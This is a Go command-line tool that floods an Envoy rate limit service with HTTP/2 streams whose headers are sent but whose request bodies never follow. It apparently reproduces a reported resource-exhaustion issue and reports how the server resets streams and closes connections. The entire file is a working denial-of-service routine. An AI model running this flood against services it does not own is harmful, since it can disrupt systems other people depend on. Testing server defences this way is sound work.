// Command rlsflood opens HTTP/2 connections to an Envoy rate limit service
// and sends on each the HEADERS of ShouldRateLimit calls whose request
// message never follows, as an attacker would (issue 15 item 2), then holds
// the connections and reports what the server did with them.
//
//	rlsflood -addr 127.0.0.1:8081 -conns 100 -streams 1024 -hold 25s
//
// Every 5s and at the end it prints one line: "t=S sent=N reset=R
// conns_closed=C": the HEADERS sent, the streams the server ended (by
// RST_STREAM or by trailers), the connections it closed.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	addr := flag.String("addr", "", "the service's gRPC address")
	conns := flag.Int("conns", 100, "connections")
	streams := flag.Int("streams", 1024, "HEADERS frames without DATA on each connection")
	hold := flag.Duration("hold", 25*time.Second, "how long to hold the connections once the HEADERS are sent")
	flag.Parse()
	if *addr == "" {
		fmt.Fprintln(os.Stderr, "rlsflood: -addr is required")
		os.Exit(2)
	}
	var sent, reset, closed atomic.Int64
	var wg sync.WaitGroup
	start := time.Now()
	var open []net.Conn
	var mu sync.Mutex
	for range *conns {
		c, err := net.Dial("tcp", *addr)
		if err != nil {
			fmt.Fprintln(os.Stderr, "rlsflood:", err)
			os.Exit(1)
		}
		mu.Lock()
		open = append(open, c)
		mu.Unlock()
		wg.Go(func() { flood(c, *streams, &sent, &reset, &closed) })
	}
	report := func() {
		fmt.Printf("t=%.0fs sent=%d reset=%d conns_closed=%d\n", time.Since(start).Seconds(), sent.Load(), reset.Load(), closed.Load())
	}
	for end := time.Now().Add(*hold); time.Now().Before(end); {
		time.Sleep(min(5*time.Second, time.Until(end)))
		report()
	}
	mu.Lock()
	for _, c := range open {
		_ = c.Close()
	}
	mu.Unlock()
	wg.Wait()
}

// flood sends the preface, SETTINGS and n HEADERS on c, then reads the
// server's frames until c closes, counting the streams it ends.
func flood(c net.Conn, n int, sent, reset, closed *atomic.Int64) {
	fr := http2.NewFramer(c, c)
	var wmu sync.Mutex // the framer's writes, from both goroutines
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return
	}
	if fr.WriteSettings() != nil {
		return
	}
	go func() {
		defer closed.Add(1)
		ended := map[uint32]bool{} // a reset stream gets trailers, then RST_STREAM
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			id := f.Header().StreamID
			if h, ok := f.(*http2.HeadersFrame); ok && h.StreamEnded() || f.Header().Type == http2.FrameRSTStream {
				if !ended[id] {
					ended[id] = true
					reset.Add(1)
				}
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					wmu.Lock()
					_ = fr.WriteSettingsAck()
					wmu.Unlock()
				}
			case *http2.PingFrame:
				if !f.IsAck() {
					wmu.Lock()
					_ = fr.WritePing(true, f.Data)
					wmu.Unlock()
				}
			}
		}
	}()
	block := headerBlock()
	for i := range n {
		wmu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block, EndHeaders: true})
		wmu.Unlock()
		if err != nil {
			return
		}
		sent.Add(1)
	}
}

// headerBlock is the header block of a ShouldRateLimit call, encoded
// without indexing so that every stream may send it as it is.
func headerBlock() []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", "rls"},
		{":path", "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	return b.Bytes()
}
